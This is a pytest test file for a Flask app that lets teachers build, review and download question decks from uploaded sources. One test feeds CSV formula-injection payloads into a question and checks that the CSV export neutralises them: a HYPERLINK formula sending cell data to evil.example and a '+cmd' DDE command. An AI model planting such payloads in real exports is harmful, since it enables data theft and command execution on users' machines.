"""Teacher pages: sources, background builds, question review, own questions, downloads.

Every view and partial is driven through the Flask test client. Builds are queued;
tests run the queue in this process before looking at the result.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlmodel import Session, func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from webapp.models import ACTIVE_BUILD, BuildJob, Deck, Question, QuestionReview
from webapp.repo import teach as teach_repo

from webapp_support import HX, run_builds, signup

FIXTURE_SOURCES = Path(__file__).resolve().parents[1] / "fixtures" / "mini" / "sources"
REPORT = (FIXTURE_SOURCES / "mission-report.txt").read_bytes()
PRESS = (FIXTURE_SOURCES / "press-summary.txt").read_bytes()


# --- helpers shared with test_classes.py ---------------------------------------

def new_deck(client: FlaskClient, title: str = "Moon landing") -> str:
    response = client.post("/teach/decks", data={"title": title})
    assert response.status_code == 303
    return response.location.rsplit("/", 1)[1]


def upload(client: FlaskClient, slug: str, files: list[tuple[bytes, str]] = (), **fields):
    data = {"kind": "report", **fields, "files": [(io.BytesIO(body), name) for body, name in files]}
    return client.post(f"/teach/decks/{slug}/sources", data=data, content_type="multipart/form-data")


def build(app: Flask, client: FlaskClient, slug: str) -> str:
    response = client.post(f"/teach/decks/{slug}/build", headers=HX)
    assert response.status_code == 202, response.get_data(as_text=True)
    run_builds(app)
    return client.get(f"/teach/decks/{slug}/build", headers=HX).get_data(as_text=True)


def review_ids(client: FlaskClient, slug: str, status: str = "all") -> list[int]:
    html = client.get(f"/teach/decks/{slug}/review?status={status}").get_data(as_text=True)
    return [int(found) for found in re.findall(r'data-review-id="(\d+)"', html)]


def built_deck(app: Flask, client: FlaskClient, *, sources=((REPORT, "mission-report.txt"),)) -> str:
    slug = new_deck(client)
    assert upload(client, slug, list(sources)).status_code == 303
    assert 'data-job-status="done"' in build(app, client, slug)
    return slug


def learner_keys(db: Session, slug: str) -> set[str]:
    """The question ids a learner can study in the deck."""
    deck = db.exec(select(Deck).where(Deck.slug == slug)).one()
    db.expire_all()
    return {q.key for q in db.exec(select(Question).where(Question.deck_id == deck.id,
                                                          Question.retired == False))}  # noqa: E712


def review_rows(db: Session, slug: str) -> dict[int, QuestionReview]:
    db.expire_all()
    deck = db.exec(select(Deck).where(Deck.slug == slug)).one()
    return {r.id: r for r in db.exec(select(QuestionReview).where(QuestionReview.deck_id == deck.id))}


# --- fixtures ---------------------------------------------------------------------

# --- access ---------------------------------------------------------------------

TEACHER_GETS = ["/teach/", "/teach/decks/{slug}", "/teach/decks/{slug}/build", "/teach/decks/{slug}/review",
                "/teach/decks/{slug}/review/counts", "/teach/decks/{slug}/review/{rid}",
                "/teach/decks/{slug}/review/{rid}/edit", "/teach/decks/{slug}/questions/new",
                "/teach/decks/{slug}/questions/source/mission-report", "/teach/classes"]
TEACHER_POSTS = ["/teach/decks", "/teach/decks/{slug}/sources", "/teach/decks/{slug}/build",
                 "/teach/decks/{slug}/review/{rid}/approve", "/teach/decks/{slug}/review/{rid}/reject",
                 "/teach/decks/{slug}/review/approve-pending", "/teach/decks/{slug}/publish",
                 "/teach/decks/{slug}/sources/mission-report/delete", "/teach/classes"]


def test_learners_get_403_on_every_teacher_page(app, teacher):
    slug = built_deck(app, teacher)
    rid = review_ids(teacher, slug)[0]
    learner = app.test_client()
    signup(learner, "lee@example.org")
    for url in TEACHER_GETS:
        assert learner.get(url.format(slug=slug, rid=rid)).status_code == 403, url
    for url in TEACHER_POSTS:
        assert learner.post(url.format(slug=slug, rid=rid)).status_code == 403, url


def test_anonymous_visitors_are_sent_to_log_in(client):
    response = client.get("/teach/")
    assert response.status_code in (302, 303) and "/login" in response.location


def test_another_teachers_deck_is_not_found(app, teacher):
    slug = built_deck(app, teacher)
    rid = review_ids(teacher, slug)[0]
    other = app.test_client()
    signup(other, "otto@example.org", role="teacher")
    for url in TEACHER_GETS[1:-1]:
        assert other.get(url.format(slug=slug, rid=rid)).status_code == 404, url
    assert other.post(f"/teach/decks/{slug}/review/{rid}/approve").status_code == 404
    assert other.get(f"/decks/{slug}/download.csv").status_code == 404


# --- sources ----------------------------------------------------------------------

def test_uploaded_and_pasted_sources_land_in_the_deck_folder(teacher, teacher_dir):
    slug = new_deck(teacher)
    response = upload(teacher, slug, [(REPORT, "mission-report.txt")], perspective="mission office")
    assert response.status_code == 303
    response = upload(teacher, slug, text="Press summary\r\n\r\nThe lander touched down on 20 July 1969.\r\n",
                      title="Press summary", kind="press release")
    assert response.status_code == 303
    folder = teacher_dir / slug
    assert (folder / "sources" / "mission-report.txt").read_bytes() == REPORT
    assert (folder / "sources" / "press-summary.txt").read_text("utf-8").startswith("Press summary\n\nThe")
    manifest = (folder / "sources.toml").read_text("utf-8")
    assert 'perspective = "mission office"' in manifest and 'kind = "press release"' in manifest
    page = teacher.get(f"/teach/decks/{slug}").get_data(as_text=True)
    assert 'data-source="mission-report"' in page and 'data-source="press-summary"' in page


def test_removing_a_source_deletes_its_file(teacher, teacher_dir):
    slug = new_deck(teacher)
    upload(teacher, slug, [(REPORT, "mission-report.txt")])
    assert teacher.post(f"/teach/decks/{slug}/sources/mission-report/delete").status_code == 303
    assert not (teacher_dir / slug / "sources" / "mission-report.txt").exists()
    assert "mission-report" not in (teacher_dir / slug / "sources.toml").read_text("utf-8")


def _row_counts(db: Session) -> tuple[int, ...]:
    return tuple(db.exec(select(func.count()).select_from(model)).one()
                 for model in (Deck, Question, QuestionReview, BuildJob))


@pytest.mark.parametrize(("files", "fields", "named", "reason"), [
    ([(b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", "diagram.txt")], {}, "diagram.txt", "binary"),
    ([("Caf\u00e9 au lait".encode("latin-1"), "menu.txt")], {}, "menu.txt", "not UTF-8"),
    ([(b"", "blank.txt")], {}, "blank.txt", "empty"),
    ([(b"   \n\n  ", "spaces.txt")], {}, "spaces.txt", "empty"),
    ([(REPORT, "report.pdf")], {}, "report.pdf", "not a readable PDF"),
    ([(REPORT, "diagram.png")], {}, "diagram.png", "Upload .txt, .md, .html, .pdf, .docx, .csv, .tsv or .xlsx"),
    ([(REPORT, "good.txt"), (b"\x00\x01", "bad.txt")], {}, "bad.txt", "binary"),
    ([], {"text": "  \r\n "}, "", "Choose a file"),
])
def test_bad_uploads_are_refused_and_leave_nothing_behind(teacher, teacher_dir, db, files, fields, named,
                                                          reason):
    slug = new_deck(teacher)
    before = _row_counts(db)
    response = upload(teacher, slug, files, **fields)
    assert response.status_code == 422
    message = re.search(r'id="upload-error"[^>]*>([^<]*)<', response.get_data(as_text=True)).group(1)
    assert named in message and reason in message
    assert not (teacher_dir / slug).exists() or not any((teacher_dir / slug).rglob("*"))
    assert _row_counts(db) == before


def test_an_upload_over_the_size_limit_gets_a_friendly_413_and_leaves_nothing(teacher, teacher_dir, db):
    slug = new_deck(teacher)
    before = _row_counts(db)
    # Encoded in memory: the test client would otherwise spool the large body to a temporary file.
    boundary, body = encode_multipart({"files": FileStorage(io.BytesIO(b"a" * (6 * 1024 * 1024)), "huge.txt")})
    response = teacher.post(f"/teach/decks/{slug}/sources", data=body,
                            content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 413
    assert "larger than 5 MB" in response.get_data(as_text=True)
    assert not (teacher_dir / slug).exists()
    assert _row_counts(db) == before


# --- builds -------------------------------------------------------------------------

def test_build_runs_in_the_background_and_reports_progress(app, teacher, db):
    slug = new_deck(teacher)
    upload(teacher, slug, [(REPORT, "mission-report.txt"), (PRESS, "press-summary.txt")])
    deck = db.exec(select(Deck).where(Deck.slug == slug)).one()
    # A job another worker has queued: the partial shows it and keeps polling.
    teach_repo.create_job(deck, session=db)
    running = teacher.get(f"/teach/decks/{slug}/build", headers=HX).get_data(as_text=True)
    assert 'data-job-status="queued"' in running and 'hx-trigger="every 1s"' in running
    assert "<progress" in running and "build-button" not in running
    assert teacher.post(f"/teach/decks/{slug}/build", headers=HX).status_code == 409
    teach_repo.move_job(teach_repo.latest_job(deck, session=db).id, from_status=ACTIVE_BUILD, status="failed",
                        message="stopped", session=db)

    done = build(app, teacher, slug)
    assert 'data-job-status="done"' in done and "every 1s" not in done
    job = teach_repo.latest_job(deck, session=db)
    db.refresh(job)
    assert job.percent == 100 and job.finished_at is not None
    assert len(review_ids(teacher, slug, "pending")) > 0
    # Nothing is approved yet, so learners have nothing to study.
    assert learner_keys(db, slug) == set()


def test_build_page_without_htmx_is_a_full_page(app, teacher):
    slug = new_deck(teacher)
    upload(teacher, slug, [(REPORT, "mission-report.txt")])
    response = teacher.post(f"/teach/decks/{slug}/build")
    assert response.status_code == 303
    run_builds(app)
    page = teacher.get(response.location).get_data(as_text=True)
    assert "<html" in page and 'id="build-status"' in page


def test_building_without_sources_is_refused(teacher):
    slug = new_deck(teacher)
    response = teacher.post(f"/teach/decks/{slug}/build", headers=HX)
    assert response.status_code == 422 and "Add at least one source" in response.get_data(as_text=True)


def test_a_failed_build_names_the_bad_source(app, teacher, teacher_dir):
    slug = new_deck(teacher)
    upload(teacher, slug, [(REPORT, "mission-report.txt")])
    (teacher_dir / slug / "sources" / "mission-report.txt").write_bytes(b"\xff\xfe broken")
    status = build(app, teacher, slug)
    assert 'data-job-status="failed"' in status and "mission-report.txt" in status


# --- review ---------------------------------------------------------------------------

def test_approve_reject_and_reset_swap_the_item_and_set_what_learners_see(app, teacher, db):
    slug = built_deck(app, teacher)
    first, second, *_ = review_ids(teacher, slug)
    response = teacher.post(f"/teach/decks/{slug}/review/{first}/approve", headers=HX)
    assert response.status_code == 200 and response.headers["HX-Trigger"] == "review-changed"
    assert 'data-status="approved"' in response.get_data(as_text=True)
    assert "<html" not in response.get_data(as_text=True)
    rows = review_rows(db, slug)
    assert learner_keys(db, slug) == {rows[first].key}

    teacher.post(f"/teach/decks/{slug}/review/{second}/approve", headers=HX)
    response = teacher.post(f"/teach/decks/{slug}/review/{second}/reject", headers=HX)
    assert 'data-status="rejected"' in response.get_data(as_text=True)
    assert learner_keys(db, slug) == {rows[first].key}

    response = teacher.post(f"/teach/decks/{slug}/review/{first}/reset")
    assert response.status_code == 303
    assert learner_keys(db, slug) == set()
    counts = teacher.get(f"/teach/decks/{slug}/review/counts").get_data(as_text=True)
    assert 'data-count="rejected">1<' in counts and 'data-count="approved">0<' in counts


def test_review_filters_and_single_item_views(app, teacher):
    slug = built_deck(app, teacher)
    ids = review_ids(teacher, slug)
    teacher.post(f"/teach/decks/{slug}/review/{ids[0]}/reject", headers=HX)
    assert review_ids(teacher, slug, "rejected") == [ids[0]]
    assert ids[0] not in review_ids(teacher, slug, "pending")
    fragment = teacher.get(f"/teach/decks/{slug}/review/{ids[1]}", headers=HX).get_data(as_text=True)
    assert fragment.lstrip().startswith("<article") and f'data-review-id="{ids[1]}"' in fragment
    page = teacher.get(f"/teach/decks/{slug}/review/{ids[1]}").get_data(as_text=True)
    assert "<html" in page and f'data-review-id="{ids[1]}"' in page
    assert teacher.get(f"/teach/decks/{slug}/review/999999").status_code == 404


def test_approve_all_pending(app, teacher, db):
    slug = built_deck(app, teacher)
    ids = review_ids(teacher, slug)
    teacher.post(f"/teach/decks/{slug}/review/{ids[0]}/reject", headers=HX)
    asked = teacher.post(f"/teach/decks/{slug}/review/approve-pending")
    assert asked.status_code == 200 and "Approve all" in asked.get_data(as_text=True)
    assert learner_keys(db, slug) == set()  # nothing approved before the teacher confirms
    assert teacher.post(f"/teach/decks/{slug}/review/approve-pending", data={"confirm": "yes"}).status_code == 303
    rows = review_rows(db, slug)
    assert learner_keys(db, slug) == {rows[i].key for i in ids[1:]}


def test_editing_a_question_changes_what_learners_get(app, teacher, db):
    slug = built_deck(app, teacher)
    rid = review_ids(teacher, slug)[0]
    form = teacher.get(f"/teach/decks/{slug}/review/{rid}/edit", headers=HX).get_data(as_text=True)
    assert 'name="prompt"' in form and "<html" not in form
    response = teacher.post(f"/teach/decks/{slug}/review/{rid}/edit", headers=HX, data={
        "prompt": "On what day did the lander touch down?", "answer": "20 July 1969",
        "accepted": "July 20, 1969\n1969-07-20", "distractors": "21 July 1969\n19 July 1969\n\n"})
    assert response.status_code == 200
    assert 'data-status="approved"' in response.get_data(as_text=True)
    key = review_rows(db, slug)[rid].key
    question = db.exec(select(Question).where(Question.key == key)).one()
    assert question.prompt == "On what day did the lander touch down?"
    assert question.distractors == ["21 July 1969", "19 July 1969"]
    assert question.accepted == ["July 20, 1969", "1969-07-20"]


@pytest.mark.parametrize(("fields", "error"), [
    ({"prompt": "", "answer": "x"}, "This field is required"),
    ({"prompt": "When?", "answer": "1969", "distractors": "1970\n1969"}, "also a right answer"),
])
def test_an_invalid_edit_is_refused_with_the_form_again(app, teacher, db, fields, error):
    slug = built_deck(app, teacher)
    rid = review_ids(teacher, slug)[0]
    before = review_rows(db, slug)[rid].edits
    response = teacher.post(f"/teach/decks/{slug}/review/{rid}/edit", headers=HX, data=fields)
    assert response.status_code == 422 and error in response.get_data(as_text=True)
    assert review_rows(db, slug)[rid].edits == before


def test_rebuild_keeps_edits_and_rejections(app, teacher, db, teacher_dir):
    slug = built_deck(app, teacher)
    edited, rejected, approved, *_ = review_ids(teacher, slug)
    teacher.post(f"/teach/decks/{slug}/review/{edited}/edit", headers=HX, data={
        "prompt": "My own wording: when did it land?", "answer": "20 July 1969", "accepted": "",
        "distractors": "1 May 1970\n3 June 1968"})
    teacher.post(f"/teach/decks/{slug}/review/{rejected}/reject", headers=HX)
    teacher.post(f"/teach/decks/{slug}/review/{approved}/approve", headers=HX)
    keys = {rid: row.key for rid, row in review_rows(db, slug).items()}

    # A new source and a rebuild: the old questions come back with the same ids.
    upload(teacher, slug, [(PRESS, "press-summary.txt")])
    assert 'data-job-status="done"' in build(app, teacher, slug)
    rows = {row.key: row for row in review_rows(db, slug).values()}
    assert rows[keys[edited]].status == "approved"
    assert rows[keys[edited]].edits["prompt"] == "My own wording: when did it land?"
    assert rows[keys[rejected]].status == "rejected"
    assert rows[keys[approved]].status == "approved"
    assert learner_keys(db, slug) == {keys[edited], keys[approved]}
    question = db.exec(select(Question).where(Question.key == keys[edited])).one()
    assert question.prompt == "My own wording: when did it land?"
    page = teacher.get(f"/teach/decks/{slug}/review?status=approved").get_data(as_text=True)
    assert "My own wording" in page and "edited" in page


# --- the teacher's own questions ---------------------------------------------------------

def _own_question_form(text: str, quote: str, **extra) -> dict:
    start = text.index(quote)
    return {"source": "mission-report", "start": start, "end": start + len(quote), "exact": quote,
            "kind": "place", "format": "type_in", "prompt": "Where did the lander touch down?",
            "answer": "the Sea of Tranquility", "value": "Sea of Tranquility", "accepted": "",
            "distractors": "", **extra}


def test_own_question_with_a_verified_passage_is_added_and_approved(app, teacher, db):
    slug = built_deck(app, teacher)
    page = teacher.get(f"/teach/decks/{slug}/questions/new").get_data(as_text=True)
    assert 'id="source-text"' in page
    text = REPORT.decode("utf-8")
    quote = "The lander touched down on 20 July 1969 in the Sea of Tranquility."
    response = teacher.post(f"/teach/decks/{slug}/questions/new", data=_own_question_form(text, quote))
    assert response.status_code == 303, response.get_data(as_text=True)
    own = [r for r in review_rows(db, slug).values() if r.origin == "teacher"]
    assert len(own) == 1 and own[0].status == "approved"
    evidence = own[0].generated["evidence"][0]
    assert text[evidence["start"]:evidence["end"]] == evidence["exact"] == quote
    assert own[0].key in learner_keys(db, slug)


@pytest.mark.parametrize(("change", "error"), [
    ({"exact": "The lander touched down on 21 July"}, "does not match the source"),
    ({"start": 5, "end": 999999}, "must lie inside the source"),
    ({"value": "Ocean of Storms"}, "must appear inside the quoted passage"),
    ({"start": ""}, "Select a passage"),
])
def test_own_question_with_a_wrong_passage_is_refused(app, teacher, db, change, error):
    slug = built_deck(app, teacher)
    text = REPORT.decode("utf-8")
    form = _own_question_form(text, "The lander touched down on 20 July 1969 in the Sea of Tranquility.")
    response = teacher.post(f"/teach/decks/{slug}/questions/new", data={**form, **change})
    assert response.status_code == 422 and error in response.get_data(as_text=True)
    assert not [r for r in review_rows(db, slug).values() if r.origin == "teacher"]


def test_own_question_needs_a_build_first(teacher):
    slug = new_deck(teacher)
    response = teacher.get(f"/teach/decks/{slug}/questions/new")
    assert response.status_code == 303 and response.location.endswith(f"/teach/decks/{slug}")


def test_source_picker_partial(app, teacher):
    slug = built_deck(app, teacher)
    response = teacher.get(f"/teach/decks/{slug}/questions/source/mission-report", headers=HX)
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and 'data-source="mission-report"' in html
    assert "Sea of Tranquility" in html
    assert teacher.get(f"/teach/decks/{slug}/questions/source/nope").status_code == 404


# --- downloads ------------------------------------------------------------------------------

def test_downloads_hold_the_approved_questions_with_edits(app, teacher, db):
    slug = built_deck(app, teacher)
    kept, dropped, *_ = review_ids(teacher, slug)
    teacher.post(f"/teach/decks/{slug}/review/{kept}/edit", headers=HX, data={
        "prompt": "Edited for the download: when?", "answer": "20 July 1969", "accepted": "",
        "distractors": "2 May 1970"})
    teacher.post(f"/teach/decks/{slug}/review/{dropped}/reject", headers=HX)
    rows = review_rows(db, slug)

    with teacher.get(f"/decks/{slug}/download.csv") as response:
        assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
        table = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert {row["id"] for row in table} == {rows[kept].key}
    assert table[0]["prompt"] == "Edited for the download: when?"

    with teacher.get(f"/decks/{slug}/download.apkg") as response:
        assert response.status_code == 200 and response.headers["Content-Disposition"].endswith(".apkg")
        body = response.data
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        assert any(name.startswith("collection.anki") for name in package.namelist())


def test_a_teachers_formula_reaches_the_downloaded_csv_as_text(app, teacher, db):
    slug = built_deck(app, teacher)
    kept, *_ = review_ids(teacher, slug)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    response = teacher.post(f"/teach/decks/{slug}/review/{kept}/edit", headers=HX, data={
        "prompt": "+cmd|' /C calc'!A0 when?", "answer": formula, "accepted": "", "distractors": "@SUM(1+1)"})
    assert response.status_code == 200
    with teacher.get(f"/decks/{slug}/download.csv") as response:
        [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row["answer"] == "'" + formula
    assert row["prompt"] == "'+cmd|' /C calc'!A0 when?"
    assert row["distractors"].startswith("'@SUM")


def test_teacher_index_lists_decks_with_their_counts(app, teacher):
    slug = built_deck(app, teacher)
    page = teacher.get("/teach/").get_data(as_text=True)
    assert f'data-deck="{slug}"' in page and "0 approved" in page
    assert teacher.post("/teach/decks", data={"title": ""}).status_code == 422


# --- warnings on the review page ----------------------------------------------------

def _break_a_cloze(db: Session, slug: str) -> QuestionReview:
    """Give one waiting question a cloze prompt without its blank, which the checker warns about."""
    rows = review_rows(db, slug)
    review = next(iter(sorted(rows.values(), key=lambda r: r.position)))
    review.generated = {**review.generated, "format": "cloze", "prompt": "It happened on a day nobody blanks."}
    db.add(review)
    db.commit()
    return review


def test_review_page_shows_each_questions_warnings_and_filters_by_them(app, teacher, db):
    slug = built_deck(app, teacher)
    broken = _break_a_cloze(db, slug)
    html = teacher.get(f"/teach/decks/{slug}/review").get_data(as_text=True)
    item = html[html.index(f'id="review-{broken.id}"'):]
    item = item[:item.index("</article>")]
    assert 'data-warning="blank"' in item and "cloze prompt has no blank" in item
    assert 'href="/teach/decks/' in html and "warning=blank" in html
    only_blank = review_ids(teacher, slug, "all&warning=blank")
    assert only_blank == [broken.id]
    clean = review_ids(teacher, slug, "all&warning=none")
    assert broken.id not in clean and set(clean) | {broken.id} == set(review_ids(teacher, slug))


def test_approve_all_without_warnings_leaves_the_warned_ones_waiting(app, teacher, db):
    slug = built_deck(app, teacher)
    broken = _break_a_cloze(db, slug)
    response = teacher.post(f"/teach/decks/{slug}/review/approve-pending", data={"scope": "clean"})
    assert response.status_code == 303
    rows = review_rows(db, slug)
    assert rows[broken.id].status == "pending"
    assert all(row.status == "approved" for rid, row in rows.items() if rid != broken.id and row.in_build)


def test_confirming_approve_all_names_how_many_have_warnings(app, teacher, db):
    slug = built_deck(app, teacher)
    _break_a_cloze(db, slug)
    page = teacher.get(f"/teach/decks/{slug}/review/approve-pending").get_data(as_text=True)
    assert "1 of them has warnings" in page and 'name="confirm" value="yes"' in page
    assert all(row.status == "pending" for row in review_rows(db, slug).values())


def test_a_get_of_approve_all_only_asks_whatever_its_query_says(app, teacher, db):
    slug = built_deck(app, teacher)
    page = teacher.get(f"/teach/decks/{slug}/review/approve-pending?scope=clean").get_data(as_text=True)
    assert 'name="confirm" value="yes"' in page
    assert all(row.status == "pending" for row in review_rows(db, slug).values())


def test_review_quotes_name_the_sources_title_and_buttons_name_their_question(app, teacher, db):
    slug = new_deck(teacher)
    assert upload(teacher, slug, [(REPORT, "mission-report.txt")], title="The Mission Report").status_code == 303
    build(app, teacher, slug)
    html = teacher.get(f"/teach/decks/{slug}/review").get_data(as_text=True)
    assert "<cite>The Mission Report</cite>" in html and "<footer>mission-report" not in html
    rid = review_ids(teacher, slug)[0]
    assert f'data-action="approve" aria-describedby="review-prompt-{rid}"' in html
    assert f'id="review-prompt-{rid}"' in html
    assert "question 1</span>" not in html


# --- editing evidence: disputes, claimant, the quote shown first -----------------------------

def _disputed(app, teacher, db) -> tuple[str, QuestionReview]:
    """A deck built from both fixture sources, and a question with a dispute (21.5 kg against 22 kg)."""
    slug = built_deck(app, teacher, sources=((REPORT, "mission-report.txt"), (PRESS, "press-summary.txt")))
    disputed = [r for r in review_rows(db, slug).values() if r.in_build and r.generated.get("disputed_by")]
    assert disputed, "the fixture sources disagree on the samples' mass"
    return slug, disputed[0]


def _edit_fields(review: QuestionReview, **extra) -> dict:
    question = review.generated
    return {"prompt": question["prompt"], "answer": question["answer"], "accepted": "\n".join(question["accepted"]),
            "distractors": "\n".join(question["distractors"]), "claimant": question.get("claimant") or "", **extra}


def test_a_false_dispute_removed_stays_removed_across_a_rebuild(app, teacher, db):
    slug, review = _disputed(app, teacher, db)
    form = teacher.get(f"/teach/decks/{slug}/review/{review.id}/edit", headers=HX).get_data(as_text=True)
    assert 'name="drop_dispute" value="0"' in form
    response = teacher.post(f"/teach/decks/{slug}/review/{review.id}/edit", headers=HX,
                            data=_edit_fields(review, drop_dispute="0"))
    assert response.status_code == 200 and "Disputed by" not in response.get_data(as_text=True)
    question = db.exec(select(Question).where(Question.key == review.key)).one()
    assert question.disputed_by == []
    assert 'data-job-status="done"' in build(app, teacher, slug)
    rebuilt = next(r for r in review_rows(db, slug).values() if r.key == review.key)
    assert rebuilt.generated["disputed_by"] and teach_repo.effective(rebuilt)["disputed_by"] == []
    db.expire_all()
    assert db.exec(select(Question).where(Question.key == review.key)).one().disputed_by == []


def test_a_missed_dispute_can_be_linked_and_the_claimant_changed(app, teacher, db):
    slug = built_deck(app, teacher)
    rows = [r for r in review_rows(db, slug).values() if r.in_build]
    review = next(r for r in rows if r.generated["answer"] == "20 July 1969")
    other = next(r for r in rows if r.generated["answer"] == "24 July 1969")
    form = teacher.get(f"/teach/decks/{slug}/review/{review.id}/edit", headers=HX).get_data(as_text=True)
    assert f'<option value="{other.id}">' in form
    assert not any(f'<option value="{r.id}">' in form for r in rows if r.generated["kind"] != "date")
    teacher.post(f"/teach/decks/{slug}/review/{review.id}/edit", headers=HX,
                 data=_edit_fields(review, link_dispute=str(other.id), claimant="The Mission Office"))
    learner_question = db.exec(select(Question).where(Question.key == review.key)).one()
    linked = learner_question.disputed_by
    assert len(linked) == 1 and linked[0]["exact"] == other.generated["evidence"][0]["exact"]
    assert linked[0]["value"] == "24 July 1969"
    assert learner_question.claimant == "The Mission Office"
    assert learner_question.evidence[0]["claimant"] == "The Mission Office"
    assert learner_question.evidence[0]["exact"] == review.generated["evidence"][0]["exact"]
    assert teach_repo.effective(review_rows(db, slug)[review.id])["disputed_by"] == linked


def test_the_quote_shown_first_can_be_another_of_the_questions_quotes(app, teacher, db):
    slug = built_deck(app, teacher, sources=((REPORT, "mission-report.txt"), (PRESS, "press-summary.txt")))
    rows = [r for r in review_rows(db, slug).values() if r.in_build and r.generated["answer"] == "20 July 1969"]
    review, twin = rows[0], rows[1]
    # the same date in two sources: one question quoting both passages
    review.generated = {**review.generated, "evidence": [*review.generated["evidence"], *twin.generated["evidence"]]}
    db.add(review)
    db.commit()
    second = twin.generated["evidence"][0]["exact"]
    form = teacher.get(f"/teach/decks/{slug}/review/{review.id}/edit", headers=HX).get_data(as_text=True)
    assert 'name="primary_quote" value="1"' in form
    teacher.post(f"/teach/decks/{slug}/review/{review.id}/edit", headers=HX,
                 data=_edit_fields(review, primary_quote="1"))
    question = db.exec(select(Question).where(Question.key == review.key)).one()
    assert question.evidence[0]["exact"] == second and len(question.evidence) == 2


# --- the deck itself: rename, delete; counts after a build -------------------------------------

def test_renaming_a_deck_changes_its_title_for_teacher_and_learners(app, teacher, db):
    slug = built_deck(app, teacher)
    teacher.post(f"/teach/decks/{slug}/review/approve-pending", data={"confirm": "yes"})
    assert teacher.post(f"/teach/decks/{slug}/rename", data={"title": "  Apollo   11 "}).status_code == 303
    db.expire_all()
    assert db.exec(select(Deck).where(Deck.slug == slug)).one().title == "Apollo 11"
    assert "<h1>Apollo 11</h1>" in teacher.get(f"/teach/decks/{slug}").get_data(as_text=True)
    learner_file = teacher_dir_of(app) / slug / "deck.json"
    assert '"title": "Apollo 11"' in learner_file.read_text("utf-8")
    assert teacher.post(f"/teach/decks/{slug}/rename", data={"title": "  "}).status_code == 303
    db.expire_all()
    assert db.exec(select(Deck).where(Deck.slug == slug)).one().title == "Apollo 11"


def teacher_dir_of(app: Flask) -> Path:
    return Path(app.config["TEACHER_DECKS_DIR"])


def test_deleting_a_deck_asks_first_then_removes_it_with_its_questions_and_folder(app, teacher, db):
    slug = built_deck(app, teacher)
    teacher.post(f"/teach/decks/{slug}/review/approve-pending", data={"confirm": "yes"})
    asked = teacher.get(f"/teach/decks/{slug}/delete")
    assert asked.status_code == 200 and 'name="confirm" value="yes"' in asked.get_data(as_text=True)
    assert teacher.post(f"/teach/decks/{slug}/delete").status_code == 200  # no confirm: asks again
    deck_id = db.exec(select(Deck).where(Deck.slug == slug)).one().id
    assert db.exec(select(func.count()).select_from(Question).where(Question.deck_id == deck_id)).one() > 0
    assert teacher.post(f"/teach/decks/{slug}/delete", data={"confirm": "yes"}).status_code == 303
    db.expire_all()
    assert db.exec(select(Deck).where(Deck.slug == slug)).first() is None
    assert db.exec(select(func.count()).select_from(Question).where(Question.deck_id == deck_id)).one() == 0
    assert db.exec(select(func.count()).select_from(QuestionReview)
                   .where(QuestionReview.deck_id == deck_id)).one() == 0
    assert not (teacher_dir_of(app) / slug).exists()
    assert teacher.get(f"/teach/decks/{slug}").status_code == 404


def test_another_teacher_cannot_rename_or_delete_a_deck(app, teacher, db):
    slug = built_deck(app, teacher)
    other = app.test_client()
    signup(other, "other@example.org", role="teacher")
    assert other.post(f"/teach/decks/{slug}/rename", data={"title": "Mine"}).status_code == 404
    assert other.post(f"/teach/decks/{slug}/delete", data={"confirm": "yes"}).status_code == 404
    assert db.exec(select(Deck).where(Deck.slug == slug)).one().title == "Moon landing"


def test_the_poll_that_sees_a_build_finish_refreshes_the_review_counts(app, teacher):
    slug = built_deck(app, teacher)
    page = teacher.get(f"/teach/decks/{slug}").get_data(as_text=True)
    assert 'id="review-counts"' in page and 'hx-trigger="review-changed from:body"' in page
    poll = teacher.get(f"/teach/decks/{slug}/build", headers={**HX, "HX-Trigger": "build-status"})
    assert poll.headers.get("HX-Trigger") == "review-changed"


def test_downloading_a_deck_with_nothing_approved_says_so_instead_of_an_empty_file(app, teacher):
    slug = built_deck(app, teacher)
    response = teacher.get(f"/decks/{slug}/download.apkg")
    assert response.status_code == 303 and response.location.endswith(f"/teach/decks/{slug}")
    assert "nothing to download" in teacher.get(response.location).get_data(as_text=True)


def test_own_question_form_keeps_offsets_out_of_sight(app, teacher):
    slug = built_deck(app, teacher)
    page = teacher.get(f"/teach/decks/{slug}/questions/new").get_data(as_text=True)
    assert re.search(r'<input[^>]*id="start"[^>]*type="hidden"|<input[^>]*type="hidden"[^>]*id="start"', page)
    assert re.search(r'<input[^>]*id="end"[^>]*type="hidden"|<input[^>]*type="hidden"[^>]*id="end"', page)
    assert ">Start</label>" not in page and ">End</label>" not in page


def test_a_sources_title_kind_and_perspective_can_be_edited_and_reach_the_next_build(app, teacher, db):
    slug = built_deck(app, teacher)
    response = teacher.post(f"/teach/decks/{slug}/sources/mission-report/describe",
                            data={"title": "NASA mission report", "kind": "report", "perspective": "NASA"})
    assert response.status_code == 303
    page = teacher.get(f"/teach/decks/{slug}").get_data(as_text=True)
    row = page[page.index('data-source="mission-report"'):]
    assert "<td>NASA mission report</td><td>report</td><td>NASA</td>" in row
    teacher.post(f"/teach/decks/{slug}/sources/mission-report/describe", data={"title": " ", "kind": "x"})
    assert "<td>NASA mission report</td>" in teacher.get(f"/teach/decks/{slug}").get_data(as_text=True)
    assert teacher.post(f"/teach/decks/{slug}/sources/nope/describe", data={"title": "T"}).status_code == 303
    build(app, teacher, slug)
    generated = (teacher_dir_of(app) / slug / "generated.json").read_text("utf-8")
    assert '"title": "NASA mission report"' in generated
